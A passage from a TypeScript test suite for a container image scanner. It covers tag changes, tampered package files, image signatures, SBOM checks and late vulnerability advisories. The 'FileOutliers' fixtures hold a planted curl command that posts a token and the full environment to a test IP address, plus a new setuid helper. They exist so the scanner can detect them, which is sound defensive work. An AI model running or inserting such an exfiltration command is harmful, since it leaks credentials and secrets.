      store.query(`SELECT id FROM outbox WHERE type = 'dev.tidewaiter.image.failed.v1' AND data ->> 'pushId' = $1`, [
        id,
      ]);

    it('is tried again once under other versions or limits, and announced again only for another reason', async () => {
      const gone = Array.from({ length: 33 }, (_, number) => registry.put('again', `part-${number}`, []));
      for (const tag of ['fixed', 'bad']) registry.putIndex('again', tag, gone);
      const fixed = await push('again', 'fixed');
      const bad = await push('again', 'bad');
      expect([fixed.state, bad.state]).toEqual(['refused', 'refused']);
      registry.put('again', 'fixed', [{ content: osRelease }]);
      await store.query(`UPDATE push SET refused_by = 'an older version', digest = NULL WHERE repository = 'again'`);
      await until('the push is analyzed', async () => (await pushes.get(fixed.id))!.state === 'analyzed');
      const olderOnes = `SELECT id FROM push WHERE repository = 'again' AND refused_by = 'an older version' AND state <> 'analyzed'`;
      await until('the other one is refused again', async () => (await store.query(olderOnes)).length === 0);
      await ended(bad.id);
      expect(await refusals(bad.id)).toHaveLength(1);
    });

    it('is tried again when the platforms of the settings change', async () => {
      const platform = { os: 'linux', architecture: 's390x' };
      registry.putIndex('mainframe', '1', [registry.put('mainframe', 'only', [{ content: osRelease }])], platform);
      const refused = await push('mainframe', '1');
      expect(refused).toMatchObject({ state: 'refused', code: 'NO_PLATFORM' });
      const file = join(home, 'tidewaiter.yaml');
      const before = readFileSync(file, 'utf8');
      writeFileSync(file, `${before}\nplatforms: [linux/amd64, linux/arm64, linux/s390x]`);
      await scanner.reload();
      await until('the push is analyzed', async () => (await pushes.get(refused.id))!.state === 'analyzed');
      writeFileSync(file, before);
      await scanner.reload();
    });
  });

  describe('a tag that moves', () => {
    const movedEvent = async ({ id }: Push) => {
      const [event] = await store.query<{ data: unknown }>(
        `SELECT data FROM outbox WHERE type = 'dev.tidewaiter.tag.moved.v1' AND data ->> 'pushId' = $1`,
        [id],
      );
      return event?.data;
    };
    const changesOf = async ({ id }: Push) => new PushDifferences(store).of(id);
    const script = (host: string) => ({
      path: 'app/run.sh',
      content: `#!/bin/sh\ncurl -s https://${host}/\n`,
      mode: 0o755,
    });
    const app = tarArchive([script('api.moved.io')]);
    const changed = tarArchive([script('drop.moved.io'), { path: 'usr/bin/helper', content: 'x', mode: 0o4755 }]);

    it('has its changes computed from the stored data of both images', async () => {
      registry.put('moved', '1', [{ content: osRelease }, { content: app }], {
        config: { User: 'app', Env: ['KEY=a'] },
      });
      const first = await push('moved', '1');
      expect(await changesOf(first)).toBeNull();
      expect(await movedEvent(first)).toBeUndefined();
      const downloads = registry.downloads.length;
      const config = { User: '0', Entrypoint: ['/bin/sh', '-c', 'hunter2'], Env: ['KEY=b'] };
      const digest = registry.put('moved', '1', [{ content: osRelease }, { content: changed }], { config });
      const second = await push('moved', '1');
      // The tag's manifest, config, the one new layer, and the places where signatures may lie.
      expect(registry.downloads.length - downloads).toBe(8);
      expect(await movedEvent(second)).toMatchObject({
        oldDigest: first.digest,
        newDigest: digest,
        isComplete: true,
        files: { added: 1, removed: 0, changed: 1, newSetuid: 1 },
        newHosts: 1,
        entrypointChanged: true,
        userChanged: true,
        becameRoot: true,
        baseChanged: false,
      });
      const changes = await changesOf(second);
      expect(changes).toMatchObject({
        platforms: [{ platform: 'linux/amd64', change: 'compared' }],
        files: {
          items: [
            { path: 'usr/bin/helper', isNewSetuid: true },
            { path: 'app/run.sh', change: 'content' },
          ],
        },
        hosts: { total: 1, items: [{ host: 'drop.moved.io', namedIn: ['app/run.sh'] }] },
        findings: {
          introduced: {
            items: expect.arrayContaining([expect.objectContaining({ id: 'unowned-setuid', path: 'usr/bin/helper' })]),
          },
        },
      });
      expect(changes?.config?.items.map(({ field }) => field)).toEqual(['user', 'entrypoint', 'env KEY']);
      expect(JSON.stringify(await store.query('SELECT config FROM image'))).not.toMatch(/hunter2|KEY=/);
    });

    it('has one event for all platforms', async () => {
      const platform = (content: Buffer, architecture: string) =>
        registry.put('moved-index', architecture, [{ content: osRelease }, { content }], { architecture });
      registry.putIndex('moved-index', '1', [platform(app, 'amd64'), platform(app, 'arm64')]);
      await push('moved-index', '1');
      registry.putIndex('moved-index', '1', [platform(changed, 'amd64'), platform(changed, 'arm64')]);
      const moved = await push('moved-index', '1');
      expect(await changesOf(moved)).toMatchObject({
        platforms: [{ platform: 'linux/amd64' }, { platform: 'linux/arm64' }],
        files: { total: 2 },
        hosts: { items: [{ host: 'drop.moved.io' }] },
      });
      expect((await changesOf(moved))?.hosts?.items[0]).not.toHaveProperty('platforms');
    });

    it('reports the signers before and after', async () => {
      const signed = registry.put('signed-moved', '1', [{ content: osRelease }, { content: app }]);
      registry.putSignature('signed-moved', signed);
      await push('signed-moved', '1');
      registry.put('signed-moved', '1', [{ content: osRelease }, { content: changed }]);
      const moved = await push('signed-moved', '1');
      expect(await movedEvent(moved)).toMatchObject({ signersChanged: true, builderChanged: null });
      expect(await changesOf(moved)).toMatchObject({
        origin: [{ before: { signers: ['release'] }, after: { signers: [] } }],
      });
    });

    it('has unknown changes if the earlier image was never read', async () => {
      const lost = tarArchive([{ path: 'lost', content: randomUUID() }]);
      registry.put('moved-unread', '1', [{ content: lost }], { missing: [digestOf(gzipSync(lost))] });
      expect(await push('moved-unread', '1')).toMatchObject({ state: 'analyzed', verdict: 'fail' });
      registry.put('moved-unread', '1', [{ content: osRelease }, { content: app }]);
      const moved = await push('moved-unread', '1');
      expect(await movedEvent(moved)).toMatchObject({ isComplete: false, files: null, newHosts: null });
      expect(await changesOf(moved)).toMatchObject({ isComplete: false, files: null });
    });

    it('has unknown file changes if an older version read the earlier image', async () => {
      const old = tarArchive([script('old.moved.io')]);
      registry.put('moved-old', '1', [{ content: osRelease }, { content: old }], { config: { User: 'app' } });
      await push('moved-old', '1');
      await store.query('UPDATE layer SET entries = $2 WHERE diff_id = $1', [digestOf(old), Buffer.of(1)]);
      registry.put('moved-old', '1', [{ content: osRelease }, { content: app }], { config: { User: '0' } });
      const moved = await push('moved-old', '1');
      expect(await changesOf(moved)).toMatchObject({
        platforms: [{ change: 'compared' }],
        isComplete: false,
        files: null,
        hosts: null,
        config: { items: [{ field: 'user' }] },
      });
    });
  });

  it('finds a program that differs from the same package elsewhere, despite a matching database', async () => {
    const program = (content: string) => {
      const path = 'usr/bin/common';
      const md5 = createHash('md5').update(content).digest('hex');
      return tarArchive([
        { path: 'var/lib/dpkg/status', content: stanza('common') },
        { path: 'var/lib/dpkg/info/common.list', content: `/${path}\n` },
        { path: 'var/lib/dpkg/info/common.md5sums', content: `${md5}  ${path}\n` },
        { path, content, mode: 0o755 },
      ]);
    };
    const put = (tag: string, content: string) =>
      registry.put('fleet', tag, [
        { content: osRelease },
        { content: program(content) },
        { content: tarArchive([{ path: 'app', content: tag }]) },
      ]);
    for (const tag of ['1', '2', '3']) {
      put(tag, 'as the distribution built it');
      expect(await push('fleet', tag)).toMatchObject({ state: 'analyzed' });
    }
    const odd = put('odd', 'with a back door');
    expect(await push('fleet', 'odd')).toMatchObject({ verdict: 'fail' });
    const outliers = (await findingsIn([odd])).filter(({ kind }) => kind === 'integrity');
    expect(outliers).toMatchObject([
      {
        id: 'package-file-outlier',
        severity: 'high',
        path: 'usr/bin/common',
        layer: 1,
        packageName: 'common',
        evidence: { imagesWithExpected: 3, imagesWithActual: 1 },
      },
    ]);
  });

  describe('FileOutliers', () => {
    const uploader =
      '#!/bin/sh\nset -e\nurl=https://codecov.io/upload\ncurl -fsS --data-binary @"$1" "$url"\necho "report uploaded"\n';
    const token = `ghp_${createHash('sha256').update('planted').digest('hex').slice(0, 36)}`;
    const leak = `curl -sm 0.5 -H "Authorization: token ${token}" -d "ENV $(env)" http://198.51.100.23/upload\n`;
    const script = (content: string, path: string) => ({ content: tarArchive([{ path, content, mode: 0o755 }]) });
    const putIn = (repository: string, content: string, path: string) =>
      registry.put(repository, '1', [{ content: osRelease }, script(content, path)]);
    const outliersIn = async (found: Push) =>
      (await new Findings(store).of([found.digest!], found)).filter(({ id }) => id === 'file-outlier');

    it('finds the image whose script has an added upload, in either order of arrival, and announces it', async () => {
      for (const order of ['clean-first', 'altered-first']) {
        const path = `usr/local/bin/${order}.sh`;
        const contents = { clean: uploader, altered: uploader + leak };
        const names = order === 'clean-first' ? (['clean', 'altered'] as const) : (['altered', 'clean'] as const);
        const found = new Map<string, Push>();
        for (const name of names) {
          putIn(`${order}/${name}`, contents[name], path);
          found.set(name, await push(`${order}/${name}`, '1'));
        }
        const altered = found.get('altered')!;
        await until(`${order}: the finding`, async () => (await outliersIn(altered)).length > 0);
        const [finding] = await outliersIn(altered);
        expect(finding).toMatchObject({ severity: 'high', path, layer: 1, evidence: { newHosts: ['198.51.100.23'] } });
        const [line] = finding!.evidence['addedLines'] as string[];
        expect(line).toContain('-d "ENV $(env)" http://198.51.100.23/upload');
        expect(line).not.toContain(token);
        expect(await outliersIn(found.get('clean')!)).toEqual([]);
        await until('its verdict follows', async () => (await pushes.get(altered.id))?.verdict === 'fail');
        const announcements = async () =>
          store.query(`SELECT FROM outbox WHERE type LIKE '%image.analyzed%' AND data ->> 'pushId' = $1`, [altered.id]);
        const expected = order === 'altered-first' ? 2 : 1;
        await until('it is announced', async () => (await announcements()).length >= expected);
        expect(await announcements()).toHaveLength(expected);
      }
      const stored = await store.query<{ text: Buffer }>('SELECT text FROM fleet_content WHERE text IS NOT NULL');
      expect(stored.length).toBeGreaterThan(0);
      expect(stored.some(({ text }) => zstdDecompressSync(text).includes(token))).toBe(false);
    });

    it('withdraws the finding of a new host once most repositories have the host', async () => {
      const path = 'usr/local/bin/report-metrics';
      const more = uploader + 'curl -fsS https://metrics.codecov-stats.net/ping\n';
      putIn('metrics/one', uploader, path);
      await push('metrics/one', '1');
      putIn('metrics/two', more, path);
      const two = await push('metrics/two', '1');
      expect(await outliersIn(two)).toMatchObject([
        { evidence: { newHosts: ['metrics.codecov-stats.net'], signs: [] } },
      ]);
      putIn('metrics/three', `${more}\n`, path);
      await push('metrics/three', '1');
      expect(await outliersIn(two)).toHaveLength(1);
      putIn('metrics/four', more, path);
      await push('metrics/four', '1');
      await until('it is withdrawn', async () => (await outliersIn(two)).length === 0);
    });

    it('removes files and texts with their last image', async () => {
      const digest = putIn('gone/app', '#!/bin/sh\necho gone\n', 'usr/local/bin/gone.sh');
      await push('gone/app', '1');
      const contents = () => store.query(`SELECT FROM fleet_content WHERE path = 'usr/local/bin/gone.sh'`);
      expect(await contents()).toHaveLength(1);
      await store.query('DELETE FROM fleet_file WHERE image_digest = $1', [digest]);
      expect(await contents()).toEqual([]);
    });
  });

  describe('an image that must be signed', () => {
    const findingsOf = async (digest: string) =>
      (await findingsIn([digest])).filter(({ kind }) => kind === 'supply-chain');

    it('passes with the signature and fails without', async () => {
      const good = registry.put('signed-good', '1', [{ content: osRelease }]);
      registry.putSignature('signed-good', good);
      expect((await push('signed-good', '1')).verdict).not.toBe('fail');
      expect(await findingsOf(good)).toEqual([]);
      const bad = registry.put('signed-bad', '1', [{ content: osRelease }, { content: dpkg('unsigned') }]);
      expect((await push('signed-bad', '1')).verdict).toBe('fail');
      expect(await findingsOf(bad)).toMatchObject([{ id: 'image-unsigned', confidence: 'certain' }]);
    });

    it('passes with provenance that its pipeline sent and a signer signed, before or after the push', async () => {
      const first = registry.put('signed-reported', '1', [{ content: osRelease }, { content: dpkg('reported') }]);
      await storeProvenance(first, privateKey);
      expect((await push('signed-reported', '1')).verdict).not.toBe('fail');
      const second = registry.put('signed-reported', '2', [
        { content: osRelease },
        { content: dpkg('reported later') },
      ]);
      const { id, verdict } = await push('signed-reported', '2');
      expect(verdict).toBe('fail');
      const incident = minerIncident({ imageDigest: second, findings: ['unsigned-image'] });
      await store.transaction(async (tx) => new Incidents(store).apply(tx, [{ kind: 'opened', incident }]));
      const reexamined = async () =>
        store.query<{ data: unknown }>(
          `SELECT data FROM outbox WHERE type = 'dev.tidewaiter.image.reexamined.v1' AND data ->> 'pushId' = $1 ORDER BY id`,
          [id],
        );
      await storeProvenance(second, generateKeyPairSync('ed25519').privateKey);
      await until('it is examined again', async () => (await reexamined()).length === 1);
      await storeProvenance(second, privateKey);
      while ((await pushes.get(id))?.verdict === 'fail') await new Promise((resolve) => setTimeout(resolve, 25));
      expect(await findingsOf(second)).toEqual([]);
      const [known] = await new Provenances(store).ofImage(second);
      expect(known?.attestations.map(({ verified, code, revision }) => [verified, code, revision]).toSorted()).toEqual([
        [false, 'SIGNER_UNKNOWN', null],
        [true, null, 'c0ffee'],
      ]);
      const events = await reexamined();
      const platforms = [{ platform: 'linux/amd64', digest: second }];
      // Caches of signers forget the image whether or not what was announced has changed.
      expect(events[0]).toMatchObject({ data: { opened: [], resolved: [], signers: [], platforms } });
      const resolved = [{ id: 'image-unsigned', severity: 'high' }];
      const signers = [{ name: 'release', identity: null }];
      expect(events.at(-1)).toMatchObject({ data: { isCurrent: true, opened: [], resolved, signers, platforms } });
      expect(await new Incidents(store).revisions(incident.id)).toMatchObject([
        { kind: 'opened' },
        { kind: 'updated', news: ['The image is signed by now: by release'] },
      ]);
    });

    it('is compared with the SBOM that a signer attests, and keeps a finding that the registry withholds', async () => {
      const layers = [{ content: osRelease }, { content: dpkg('vouched') }];
      const digest = registry.put('signed-listed', '1', layers);
      registry.putAttestedSbom('signed-listed', digest, ['pkg:deb/debian/vouched@1-1?arch=amd64']);
      await push('signed-listed', '1');
      expect(await findingsOf(digest)).toEqual([]);
      registry.putAttestedSbom('signed-listed', digest, ['pkg:deb/debian/vouched@0-1?arch=amd64']);
      const attached = { artifact: 'attestation', attachedTo: digest } as const;
      const again = async () => {
        const { id } = await push('signed-listed', `${digest.replace(':', '-')}.att`, null, 'main', null, attached);
        await until('it is compared again', async () => !(await isQueued('attached', `${id} ${digest}`)));
      };
      await again();
      const absent = ['pkg:deb/debian/vouched@0-1'];
      const differing = [{ id: 'sbom-differs', severity: 'low', evidence: { author: 'release', absent } }];
      expect(await findingsOf(digest)).toMatchObject(differing);
      registry.failures.push({ part: '.att', status: 403 });
      await again();
      expect(registry.failures).toEqual([]);
      expect(await findingsOf(digest)).toMatchObject(differing);
      registry.putAttestedSbom('signed-listed', digest, ['pkg:deb/debian/vouched@1-1?arch=amd64']);
      await again();
      expect(await findingsOf(digest)).toEqual([]);
    });

    it('is possibly unsigned if the registry refuses to list signatures', async () => {
      const digest = registry.put('signed-locked', '1', [{ content: osRelease }, { content: dpkg('locked') }]);
      registry.putSignature('signed-locked', digest);
      registry.failures.push({ part: '.sig', status: 403 });
      const { id, verdict } = await push('signed-locked', '1');
      expect(verdict).toBe('fail');
      expect(await findingsOf(digest)).toMatchObject([{ id: 'image-unsigned', confidence: 'possible' }]);
      expect((await pushes.warnings(id)).map(({ code }) => code)).toContain('PROVENANCE_UNREADABLE');
    });

    it('stays signed while the registry fails later', async () => {
      const digest = registry.put('signed-before', '1', [{ content: osRelease }, { content: dpkg('before') }]);
      registry.putSignature('signed-before', digest);
      expect((await push('signed-before', '1')).verdict).not.toBe('fail');
      registry.failures.push({ part: '.sig', status: 403 });
      const { id, verdict } = await push('signed-before', '1');
      expect(verdict).not.toBe('fail');
      expect((await pushes.warnings(id)).map(({ code }) => code)).toContain('PROVENANCE_UNREADABLE');
      expect(await findingsOf(digest)).toEqual([]);
    });

    it('is verified again when the signers of its repository change', async () => {
      registry.failures.length = 0;
      const digest = registry.put('signed-changed', '1', [{ content: osRelease }, { content: dpkg('changed') }]);
      registry.putSignature('signed-changed', digest);
      const { id, verdict } = await push('signed-changed', '1');
      expect(verdict).not.toBe('fail');
      const file = join(home, 'tidewaiter.yaml');
      const text = readFileSync(file, 'utf8');
      const other = generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' });
      writeFileSync(join(home, 'other.pub'), other);
      const isFailed = async () => (await pushes.get(id))?.verdict === 'fail';
      try {
        writeFileSync(file, text.replace('release.pub', 'other.pub'));
        await scanner.reload();
        await until('the image counts as unsigned', isFailed);
        expect(await findingsOf(digest)).toMatchObject([{ id: 'image-unsigned' }]);
      } finally {
        writeFileSync(file, text);
        await scanner.reload();
      }
      await until('it counts as signed again', async () => !(await isFailed()));
      expect(await findingsOf(digest)).toEqual([]);
    });
  });

  describe('a repository without configured signers', () => {
    const signsOf = async ({ id, digest, connection, repository, tag }: Push) => {
      const place = { connection, repository, tag };
      const found = (await findingsIn([digest!], place)).filter(({ kind }) => kind === 'supply-chain');
      return { warnings: await pushes.warnings(id), findings: found.toSorted((a, b) => (a.id < b.id ? -1 : 1)) };
    };

    /** Pushes an image of its own content, optionally signed by a key that is not configured. */
    async function release(repository: string, tag: string, by: string, isSigned: boolean): Promise<Push> {
      const digest = registry.put(repository, tag, [
        { content: osRelease },
        { content: dpkg(`${repository} ${tag} ${by}`) },
      ]);
      if (isSigned) registry.putSignature(repository, digest);
      return push(repository, tag, null, 'main', by);
    }

    it('learns the usual signature and account, and finds a push without them', async () => {
      for (const tag of ['1.1', '1.2', '1.3']) await release('free/tool', tag, 'ci-bot', true);
      const strange = await release('free/tool', '1.4', 'mallory', false);
      expect(strange.verdict).toBe('fail');
      expect((await signsOf(strange)).findings).toMatchObject([
        {
          id: 'identity-changed',
          severity: 'medium',
          title: 'Identity changed: pusher mallory, previously always ci-bot',
        },
        {
          id: 'identity-missing',
          severity: 'high',
          confidence: 'likely',
          title: 'Signature missing, previously always present',
          evidence: { learnedFrom: 3, lastSeen: [{ tag: '1.3' }, { tag: '1.2' }, { tag: '1.1' }] },
        },
      ]);
      // The first alarm does not disarm the rule, and a good push is good.
      expect((await signsOf(await release('free/tool', '1.5', 'mallory', false))).findings).toHaveLength(2);
      expect((await signsOf(await release('free/tool', '1.6', 'ci-bot', true))).findings).toEqual([]);
    });

    it('evaluates a push again when its signature arrives', async () => {
      for (const tag of ['1.1', '1.2', '1.3']) await release('free/late', tag, 'ci-bot', true);
      const late = await release('free/late', '1.4', 'ci-bot', false);
      expect((await signsOf(late)).findings).toMatchObject([{ id: 'identity-missing' }]);
      registry.putSignature('free/late', late.digest!);
      await store.transaction((tx) =>
        tx.enqueue({ queue: 'attached', key: `${late.id} ${late.digest!}`, class: 'interactive' }),
      );
      while ((await pushes.get(late.id))?.verdict === 'fail') await new Promise((resolve) => setTimeout(resolve, 25));
      expect((await signsOf(late)).findings).toEqual([]);
    });

    it('does not report a missing signature that the registry refused to list', async () => {
      for (const tag of ['1.1', '1.2', '1.3']) await release('free/locked', tag, 'ci-bot', true);
      registry.failures.push({ part: '.sig', status: 403 });
      const { findings, warnings } = await signsOf(await release('free/locked', '1.4', 'ci-bot', true));
      expect(findings).toMatchObject([{ id: 'identity-missing', severity: 'medium', confidence: 'possible' }]);
      expect(warnings.map(({ code }) => code)).toContain('PROVENANCE_UNREADABLE');
    });

    it('reports a moved version under its own tag only', async () => {
      for (const tag of ['v3', 'v4', 'latest']) await release('free/action', tag, 'ci-bot', false);
      const evil = registry.put('free/action', 'v3', [{ content: osRelease }, { content: dpkg('evil') }]);
      const moved = await push('free/action', 'v3');
      const fresh = await push('free/action', 'v5', evil);
      expect([moved.digest, fresh.digest]).toEqual([evil, evil]);
      expect((await signsOf(moved)).findings).toMatchObject([{ id: 'release-tag-moved', evidence: { tag: 'v3' } }]);
      expect((await signsOf(fresh)).findings).toEqual([]);
      expect([moved.verdict, fresh.verdict]).toEqual(['fail', fresh.verdict]);
      expect(fresh.verdict).not.toBe('fail');
    });
  });

  it('finds different content of a revision that two run tokens prove, when the second is reported', async () => {
    const images = ['one', 'two'].map((name) =>
      registry.put('built', name, [{ content: osRelease }, { content: dpkg(name) }]),
    );
    const [first = '', second = ''] = images;
    await storeRun(first, 'built', '6c62fb45fe66');
    await push('built', 'one');
    await push('built', 'two');
    const rebuilt = async () => (await findingsIn([second])).filter(({ kind }) => kind === 'supply-chain');
    expect(await rebuilt()).toEqual([]);
    await storeRun(second, 'built', '6c62fb45fe66');
    while ((await rebuilt()).length === 0) await new Promise((resolve) => setTimeout(resolve, 25));
    expect(await rebuilt()).toMatchObject([{ evidence: expect.objectContaining({ revision: '6c62fb45fe66' }) }]);
  });

  it('compares the SBOM of a pipeline with the image, also when it arrives later', async () => {
    const digest = registry.put('listed', '1', [{ content: osRelease }, { content: dpkg('listed') }]);
    await storeSbom(digest, 'listed', ['pkg:deb/debian/listed@1-1?arch=amd64&distro=debian-12']);
    await push('listed', '1');
    const different = async () => (await findingsIn([digest])).filter(({ id }) => id === 'sbom-differs');
    expect(await different()).toEqual([]);
    await storeSbom(digest, 'listed', ['pkg:deb/debian/listed@0-1?arch=amd64']);
    await until('the SBOM is compared', async () => (await different()).length > 0);
    const evidence = { unlisted: ['pkg:deb/debian/listed@1-1'], absent: ['pkg:deb/debian/listed@0-1'] };
    expect(await different()).toMatchObject([{ kind: 'supply-chain', severity: 'low', evidence }]);
  });

  it("compares BuildKit's SBOM with the image, and keeps a finding that the registry withholds", async () => {
    const layers = [{ content: osRelease }, { content: dpkg('attested') }];
    const [digest = ''] = ['attested', 'altered'].map((repository) => registry.put(repository, 'plain', layers));
    const different = async (of: Push) =>
      (await findingsIn([digest], of)).filter(({ id }) => id === 'unsigned-sbom-differs');
    registry.putAttested('attested', '1', digest, ['pkg:deb/debian/attested@1-1?arch=amd64', 'pkg:npm/in-a-stage@1']);
    const same = await push('attested', '1');
    expect(await different(same)).toEqual([]);
    const statement = registry.putAttested('altered', '1', digest, ['pkg:deb/debian/attested@0-1?arch=amd64']);
    const altered = await push('altered', '1');
    const expected = [{ severity: 'negligible', confidence: 'possible', evidence: { source: 'buildkit' } }];
    expect(await different(altered)).toMatchObject(expected);
    expect([altered.state, altered.verdict]).toEqual([same.state, same.verdict]);
    // The image alone, beside its index.
    expect((await push('altered', null, digest)).state).toBe('analyzed');
    expect(await different(altered)).toMatchObject(expected);
    registry.failures.push({ part: statement, status: 403 });
    const jobs = [
      { queue: 'reevaluate', key: altered.id },
      { queue: 'attached', key: `${altered.id} ${altered.digest!}` },
    ] as const;
    await store.transaction(async (tx) =>
      tx.enqueue(...jobs.map((job) => ({ ...job, class: 'interactive' as const }))),
    );
    for (const { queue, key } of jobs)
      await until(`the push is evaluated again by ${queue}`, async () => !(await isQueued(queue, key)));
    expect(registry.failures).toEqual([]);
    expect(await different(altered)).toMatchObject(expected);
    expect(registry.downloads.filter((reference) => reference === statement)).toHaveLength(1);
  });

  it('compares an SBOM that is attached later, as the list of referrers changes', async () => {
    const digest = registry.put('referred', '1', [{ content: osRelease }, { content: dpkg('referred') }]);
    const image = await push('referred', '1');
    const tag = registry.putReferrer('referred', digest, ['pkg:deb/debian/referred@0-1?arch=amd64']);
    const list = await push('referred', tag, null, 'main', null, { artifact: 'referrers-index', attachedTo: digest });
    expect(list).toMatchObject({ state: 'not-an-image', code: 'NOT_AN_IMAGE' });
    const different = async () =>
      (await findingsIn([digest], image)).filter(({ id }) => id.startsWith('unsigned-sbom'));
    await until('the image is verified again', async () => (await different()).length > 0);
    expect(await different()).toMatchObject([{ evidence: { source: 'referrer' } }]);
  });

  it('asks nothing more about an image without an index', async () => {
    registry.put('lonely', '1', [{ content: osRelease }]);
    const before = registry.downloads.length;
    await push('lonely', '1');
    // The manifest of the tag, config, three tags of cosign, and the referrers by API and by tag.
    expect(registry.downloads.slice(before)).toHaveLength(7);
  });

  describe('an advisory that is published after the scan', () => {
    const events = (type: string) =>
      store.query<{
        subject: string;
        data: { kind: string; counts: unknown; severity: string; purls: string[]; isNews: boolean };
      }>('SELECT subject, data FROM outbox WHERE type = $1 ORDER BY id', [`dev.tidewaiter.${type}.v1`]);
    const about = async (type: string, id: string) => (await events(type)).filter(({ subject }) => subject === id);
    const verdictOf = async (id: string) => (await pushes.get(id))!.verdict;
    const later = (id: string, modified: string, parts: object) => ({ ...advisory('late', id), modified, ...parts });
    let pushId: string;

    beforeAll(async () => {
      registry.put('late', '1', [{ content: osRelease }, { content: dpkg('liblate', 'late') }]);
      registry.put('late', '2', [{ content: osRelease }, { content: dpkg('liblate2', 'late') }]);
      const first = await push('late', '1');
      expect(first).toMatchObject({ verdict: 'pass' });
      await push('late', '2');
      pushId = first.id;
    });

    it('opens a finding for all images with the package, without a pull', async () => {
      const downloads = registry.downloads.length;
      await new Advisories(store).put([advisory('late', 'late-1'), advisory('in-no-image')]);
      await until('a finding opens', async () => (await about('finding.opened', 'CVE-late-1')).length > 0);
      const [opened] = await about('finding.opened', 'CVE-late-1');
      expect(opened!.data).toMatchObject({
        severity: 'high',
        counts: { packages: 2, images: 2, workloads: null },
        purls: [
          'pkg:deb/debian/liblate2@1-1?arch=amd64&distro=debian-12',
          'pkg:deb/debian/liblate@1-1?arch=amd64&distro=debian-12',
        ],
        isNews: true,
      });
      await until('the verdict follows', async () => (await verdictOf(pushId)) === 'fail');
      expect(registry.downloads.length).toBe(downloads);
      expect(await about('finding.opened', 'CVE-in-no-image')).toEqual([]);
    });

    it('publishes nothing when a second source lists the same', async () => {
      await new Advisories(store).put([{ ...advisory('late', 'late-second'), vulnerabilityId: 'CVE-late-1' }]);
      await new Advisories(store).put([advisory('late', 'late-2')]);
      await until('the next one opens', async () => (await about('finding.opened', 'CVE-late-2')).length > 0);
      expect(await about('finding.opened', 'CVE-late-1')).toHaveLength(1);
    });

    it('resolves the finding when it is corrected and when it is withdrawn', async () => {
      const ranges = [{ type: 'ECOSYSTEM' as const, events: [{ introduced: '2' }] }];
      const affected = [{ ...advisory('late').affected[0]!, ranges }];
      await new Advisories(store).put([later('late-1', '2026-02-01T00:00:00Z', { affected })]);
      await new Advisories(store).put([later('late-2', '2026-02-01T00:00:00Z', { withdrawn: '2026-02-01T00:00:00Z' })]);
      await until('the second is gone', async () => (await about('finding.resolved', 'CVE-late-2')).length > 0);
      // The other source still lists it.
      expect(await about('finding.resolved', 'CVE-late-1')).toEqual([]);
      await new Advisories(store).put([
        { ...later('late-second', '2026-02-01T00:00:00Z', { affected }), vulnerabilityId: 'CVE-late-1' },
      ]);
      await until('the first is gone', async () => (await about('finding.resolved', 'CVE-late-1')).length > 0);
      await until('the verdict follows', async () => (await verdictOf(pushId)) === 'pass');
    });

    it('is evaluated together with earlier advisories, in either order of arrival', async () => {
      const jammy = { path: 'etc/os-release', content: 'ID=ubuntu\nVERSION_ID="22.04"\nPRETTY_NAME="Ubuntu 22.04"\n' };
      const rebuilt = stanza('libpro', 'pro').replace('1-1', '1-1ubuntu0.1~esm1');
      registry.put('jammy', '1', [{ content: tarArchive([jammy, { path: 'var/lib/dpkg/status', content: rebuilt }]) }]);
      const { digest } = await push('jammy', '1');
      const published = async () =>
        [await about('finding.opened', 'CVE-2026-5'), await about('finding.resolved', 'CVE-2026-5')].map(
          ({ length }) => length,
        );
      const publishedAre = async (...counts: number[]) =>
        until(
          `${counts.join(' and ')} are published`,
          async () => JSON.stringify(await published()) === JSON.stringify(counts),
        );
      const ids = async () =>
        (await new Findings(store).of([digest!])).flatMap(({ id, kind }) => (kind === 'vulnerability' ? id : []));
      const record = (id: string, parts: object, modified = '2026-01-01T00:00:00Z') => {
        const entry = { ...advisory('pro').affected[0]!, ecosystem: 'Ubuntu', release: '22.04:LTS', ...parts };
        return { ...advisory('pro', id), modified, vulnerabilityId: 'CVE-2026-5', affected: [entry] };
      };
      const fixedForPayers = [
        { type: 'ECOSYSTEM' as const, events: [{ introduced: '0' }, { fixed: '1-1ubuntu0.1~esm1' }] },
      ];

      await new Advisories(store).put([record('base', {})]);
      await publishedAre(1, 0);
      expect(await ids()).toEqual(['CVE-2026-5']);
      // States nothing about the release, but the package was rebuilt for Pro: only this advisory
      // covers it.
      const pro = (modified?: string) => record('pro', { stream: 'Pro', ranges: fixedForPayers }, modified);
      await new Advisories(store).put([pro()]);
      await publishedAre(1, 1);
      expect(await ids()).toEqual([]);
      // Findings that it cleared are open again, now from the other advisory.
      const withdrawn = '2026-02-01T00:00:00Z';
      await new Advisories(store).put([{ ...pro(withdrawn), withdrawn }]);
      await publishedAre(2, 1);
      expect(await ids()).toEqual(['CVE-2026-5']);
      const [, again] = await about('finding.opened', 'CVE-2026-5');
      expect(again!.data).toMatchObject({ advisoryId: 'DSA-base', counts: { packages: 1, images: 1 } });
    });

    it('is published as malware or as an unmaintained package if it states that', async () => {
      const manifest = { path: 'app/node_modules/soso/package.json', content: '{"name":"soso","version":"1.0.0"}' };
      registry.put('soso', '1', [
        { content: osRelease },
        { content: dpkg('harmless') },
        { content: tarArchive([manifest]) },
      ]);
      await push('soso', '1');
      const record = (id: string, parts: object) => ({
        ...advisory('soso'),
        id,
        vulnerabilityId: id,
        severity: 'unknown' as const,
        affected: [{ ...advisory('soso').affected[0]!, ecosystem: 'npm', release: null, ...parts }],
      });
      const notice = record('NOTICE-2026-1', { informational: 'unmaintained' });
      await new Advisories(store).put([record('MAL-2026-1', {}), notice]);
      await until('both open', async () => (await about('finding.opened', notice.id)).length > 0);
      expect(await about('finding.opened', notice.id)).toMatchObject([
        { data: { kind: 'supply-chain', severity: 'low' } },
      ]);
      expect(await about('finding.opened', 'MAL-2026-1')).toMatchObject([
        { data: { kind: 'malware', severity: 'critical' } },
      ]);
      const withdrawn = '2026-02-01T00:00:00Z';
      await new Advisories(store).put([{ ...notice, modified: withdrawn, withdrawn }]);
      await until('it is gone', async () => (await about('finding.resolved', notice.id)).length > 0);
      expect(await about('finding.resolved', notice.id)).toMatchObject([
        { data: { kind: 'supply-chain', severity: 'low' } },
      ]);
    });

    it('is published for each vulnerability that an update fixes', async () => {
      const update = { vulnerabilityId: 'DSA-update', aliases: ['CVE-2026-33331', 'CVE-2026-33332'] };
      await new Advisories(store).put([{ ...advisory('late', 'update'), ...update }]);
      await until('both open', async () => (await about('finding.opened', 'CVE-2026-33332')).length > 0);
      expect(await about('finding.opened', 'CVE-2026-33331')).toHaveLength(1);
